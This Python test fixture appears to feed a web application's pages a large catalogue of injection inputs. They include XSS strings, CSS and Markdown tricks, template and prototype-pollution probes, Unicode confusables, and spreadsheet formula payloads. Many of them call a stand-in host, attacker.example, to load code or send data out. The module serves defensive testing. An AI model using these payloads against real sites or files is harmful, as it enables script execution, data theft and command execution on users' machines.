"""Texts that try to act. Each stands wherever data, parameters, the card or Markdown enter a page.

What gets through shows in one of four ways: `window.acted` is set, a dialog opens, something is asked of BEACON, or
the page's own elements are no longer all there.
"""

from __future__ import annotations

import pytest

BEACON = "https://attacker.example"
ACT = "window.acted = 1"
# Without spaces and quotes, for attributes and addresses.
TIGHT = "window.acted=1"

_SCRIPTS = {
    "script": f"<script src={BEACON}></script><script>{ACT}</script>",
    "script_end": f"</script><script>{ACT}</script>",
    "script_case": f"<ScRiPt>{ACT}</sCrIpT>",
    "script_slash": f"<script/x>{ACT}</script\t>",
    "script_nested": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "script_unclosed": f"<script>{ACT}//",
    "script_escaped_state": f"<!--<script>{ACT}</script>",
    "script_module": f"<script type=module>import '{BEACON}/x.js'</script>",
    "script_import_map": f'<script type=importmap>{{"imports":{{"a":"{BEACON}"}}}}</script>',
    "import": f"<link rel=stylesheet href={BEACON}/x.css><link rel=preload as=image href={BEACON}/x.png>",
    "prefetch": f"<link rel=prefetch href={BEACON}><link rel=dns-prefetch href=//attacker.example>",
}
_HANDLERS = {
    "image": f"<img src={BEACON}/x onerror='{ACT}'>",
    "image_slashes": f"<img/src=x/onerror={TIGHT}>",
    "image_set": f"<img srcset='{BEACON}/a 1x' sizes=1px><picture><source srcset={BEACON}/b></picture>",
    "details": f"<details open ontoggle={TIGHT}><summary>開く</summary></details>",
    "autofocus": f"<input autofocus onfocus={TIGHT}><select autofocus onfocus={TIGHT}></select>",
    "media": f"<video src={BEACON}/x.mp4 onerror={TIGHT}></video><audio autoplay src=x onerror={TIGHT}></audio>",
    "body": f"<body onload={TIGHT} onpageshow={TIGHT} onhashchange={TIGHT}>",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation:x 1s' onanimationstart={TIGHT}>動く</b>",
    "contenteditable": f"<p contenteditable onfocus={TIGHT} onpointerenter={TIGHT} tabindex=0>書く</p>",
    "popover": f"<button popovertarget=answer>出す</button><div popover onbeforetoggle={TIGHT}>出た</div>",
}
_BREAKS = {
    "attribute_double": f'" onload="{ACT}" autofocus onfocus="{ACT}',
    "attribute_single": f"' onmouseover='{ACT}' style='position:fixed",
    "attribute_bare": f"x onpointerover={TIGHT} tabindex=0 y",
    "attribute_backtick": f"`` onerror={TIGHT} ``",
    "attribute_tag": f'"><img src=x onerror={TIGHT}>',
    "closing": "</dd></dl></td></table></figure></section></main></body></html><h1>偽の見出し</h1>",
    "comment": f"<!-- --!><script>{ACT}</script><!--",
    "comment_short": f"<!--><img src=x onerror={TIGHT}>-->",
    "cdata": f"<![CDATA[<script>{ACT}</script>]]>",
    "processing": f"<?xml version='1.0'?><?php {ACT} ?><% {ACT} %>",
    "doctype": f"<!DOCTYPE html><html manifest={BEACON}><head><title>偽の題</title>",
    "textarea": f"</title></textarea></noscript><svg onload={TIGHT}>",
    "raw_text": f"</style></xmp></iframe></noembed></plaintext><img src=x onerror={TIGHT}>",
    "plaintext": "<plaintext>ここから先が消える",
    "unclosed": "<a href='",
    "clobbering": "<form id=location><input name=href><img id=ebpmMaps name=getElementById>",
}
_ADDRESSES = {
    "javascript": f"javascript:{TIGHT}",
    "javascript_case": f"JaVaScRiPt://%0a{TIGHT}//",
    "javascript_tab": f"<a href='java\tscript:{TIGHT}'>押す</a>",
    "javascript_entity": f"<a href='&#106;avascript&colon;{TIGHT}'>押す</a>",
    "data_page": f"data:text/html,<script>{TIGHT}</script>",
    "data_base64": "data:text/html;base64,PHNjcmlwdD53aW5kb3cuYWN0ZWQ9MTwvc2NyaXB0Pg==",
    "vbscript": "vbscript:msgbox(1)",
    "protocol_relative": "//attacker.example/x",
    "user_as_host": "https://city.example.jp@attacker.example/",
    "path": "../../../windows/system32/CON:<>|?*",
}
_MARKUP = {
    "frame": f"<iframe srcdoc='<script>parent.acted=1</script>'></iframe><object data={BEACON}></object>",
    "embed": f"<embed src={BEACON}><applet code=x><portal src={BEACON}><frameset><frame src={BEACON}>",
    "refresh": f"<meta http-equiv=refresh content='0;url={BEACON}'><base href={BEACON}><form action={BEACON}>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "form": f"<form action={BEACON}><input name=q><button formaction=javascript:{TIGHT}>送る</button></form>",
    "shadow": f"<div><template shadowrootmode=open><img src=x onerror={TIGHT}></template></div>",
    "svg": f"<svg><use href='{BEACON}#x'/><animate onbegin={TIGHT} attributeName=x dur=1s></svg>",
    "svg_script": f"<svg><script href=data:,{TIGHT}></script><a xlink:href=javascript:{TIGHT}><text>押す</text></a></svg>",
    "svg_foreign": f"<svg><foreignObject><iframe onload={TIGHT}></iframe></foreignObject></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={TIGHT}></style>",
    "math_link": f"<math href=javascript:{TIGHT}><mi xlink:href='data:x,{TIGHT}'>式</mi></math>",
    "math_namespace": f"<math><annotation-xml encoding=text/html><img src=x onerror={TIGHT}></annotation-xml></math>",
}
_STYLES = {
    "style_end": f"</style><style>@import '{BEACON}'; main {{ display: none }}</style>",
    "style_text": "}} main { display: none } {",
    "style_url": f'<p style="background:url({BEACON}/x);position:fixed;inset:0">覆う</p>',
    "style_escape": f'"; }} @import url({BEACON}); main {{ display: none; content: "\\',
    "style_font": f"<style>@font-face{{font-family:x;src:url({BEACON}/f)}}*{{font-family:x}}</style>",
    "style_attribute": f"<style>[value^='1']{{background:url({BEACON}/1)}}</style><link rel=icon href={BEACON}/i>",
}
_TEMPLATES = {
    "template": "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}{# #}",
    "template_call": "{{ self.__init__.__globals__ }}{{ cycler.__init__ }}${7*7}#{7*7}<%= 7*7 %>",
    "template_raw": "{% raw %}{% endraw %}{% include '/etc/passwd' %}{% set css = '' %}{{ csp() | safe }}",
    "template_line": "-%}{%- endblock -%}{%- block body -%}",
    "template_literal": f"`${{{ACT}}}` \\u003cscript\\u003e",
    "format": "%s %(title)s {0} {title.__class__} $title ${title}",
    "json_break": f'"}}]}}; {ACT}; //',
    "prototype": '{"__proto__": {"acted": 1}, "constructor": {"prototype": {"acted": 1}}} __proto__',
    "replacement": "$& $` $' $1 $<name> \\1 \\g<0>",
    "pattern": "(((a+)+)+)+$ [ ( * ? \\",
}  # fmt: skip
_LETTERS = {
    "separators": f"改行\u2028段落\u2029'); {ACT} //",
    "bidi": "\u202e\u2066逆向き\u200f",
    "bidi_all": "\u202a\u202b\u202d\u202e\u2066\u2067\u2068<b>\u200e\u200f\u061c向き",
    "null": f"<scr\0ipt>{ACT}</scr\0ipt> <img src=x one\0rror={TIGHT}>",
    "controls": "\x01\x08\x0b\x0c\x1b[2J\x1b]0;題\x07\x7f\x85端末",
    "full_width": f"＜script＞{ACT}＜／script＞ ＂ onload＝＂{ACT}",
    "homograph": "һttрs://аttacker.example/ 郡\u200b山\u2060市\ufeff\u00ad",
    "surrogate_pair": "𠮷野家\U000e0041\U0001f468\u200d\U0001f469\u200d\U0001f467\ufffe\ufffd",
    "combining": "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e",
    "overlong": "\u00c0\u00bcscript\u00c0\u00be +ADw-script+AD4- \\x3cscript\\x3e %3Cscript%3E",
    "newlines": "一行目\r\n二行目\r三行目\n\n# 偽の見出し\n\n- 項目\n\t字下げ",
    "long": "長" * 400,
    "long_word": "w" * 300,
}
_ENTITIES = {
    "entities": f"&lt;script&gt;{TIGHT}&lt;/script&gt; &#60;b&#62; &amp;quot;",
    "entities_bare": f"&ltscript&gt{TIGHT}&lt/script&gt &#x3c&#60 &quot onload={TIGHT}",
    "entities_named": f"&lbrace;&lbrace;7*7&rbrace;&rbrace; &NewLine;javascript&colon;{TIGHT} &apos;&grave;",
    "percent": f"%22%3E%3Cimg%20src=x%20onerror={TIGHT}%3E",
}
_MARKDOWN = {
    "markdown_link": f"[押す](javascript:{TIGHT}) ![絵]({BEACON}/x.png) <{BEACON}>",
    "markdown_reference": f"[押す][a] ![絵][b]\n\n[a]: javascript:{TIGHT} '題'\n[b]: {BEACON}/x.png",
    "markdown_title": f'[押す](#x "\\" onclick=\\"{TIGHT}") ![x](data:image/png;base64,AA== "\'\\" onerror={TIGHT}")',
    "markdown_autolink": f'<javascript:{TIGHT}> <data:text/html,{TIGHT}> https://attacker.example/"onclick={TIGHT}',
    "markdown_image": f'!["onerror={TIGHT} x](x) ![x](data:image/svg+xml;base64,PHN2Zy8+) ![x](attachment:a.svg)',
    "markdown_code": f'```"><img src=x onerror={TIGHT}>\n</code></pre><script>{ACT}</script>\n```',
    "markdown_inline_code": f'`</code><img src=x onerror={TIGHT}>`` ` ~~~html"onload={TIGHT}',
    "markdown_table": f"| a | b |\n|--|--|\n| <td onclick={TIGHT}> | \\| </table> |",
    "markdown_math": f"$</span><img src=x onerror={TIGHT}>$ $$\\href{{javascript:{TIGHT}}}{{x}}$$ \\\\(x\\\\)",
    "markdown_html": f"<br onclick={TIGHT}><sub onload={TIGHT}>下</sub><wbr/onclick={TIGHT}>",
}
_FORMULAS = {
    "formula": '=HYPERLINK("https://attacker.example","押す")',
    "formula_plus": "+cmd|' /C calc'!A0",
    "formula_minus": "-2+3+cmd|' /C calc'!A0",
    "formula_at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula_tab": "\t=1+1",
    "formula_line": "\r=1+1\n=1+2",
    "formula_quoted": '",=1+1,"\n=1+1,"',
    "formula_full_width": "＝1＋1",
    "formula_web": f'=WEBSERVICE("{BEACON}/?"&A1)',
}  # fmt: skip

PAYLOADS = {
    **_SCRIPTS, **_HANDLERS, **_BREAKS, **_ADDRESSES, **_MARKUP, **_STYLES, **_TEMPLATES, **_LETTERS, **_ENTITIES,
    **_MARKDOWN, **_FORMULAS,
}  # fmt: skip

# One of each way in; where each text is a page of its own in a browser, the others are tried by `make test-slow`.
_QUICK = ("script_end", "attribute_double", "javascript_entity", "template", "separators", "markdown_title")
ONE_BY_ONE = [
    pytest.param(text, id=name, marks=() if name in _QUICK else pytest.mark.slow)
    for name, text in PAYLOADS.items()
]


def as_read(text: str) -> str:
    """Give the text as a browser reads it out of a page (HTML, 13.2.3.5 and 13.2.6.4.7: no CR, no NUL)."""
    return text.replace("\r\n", "\n").replace("\r", "\n").replace("\0", "")
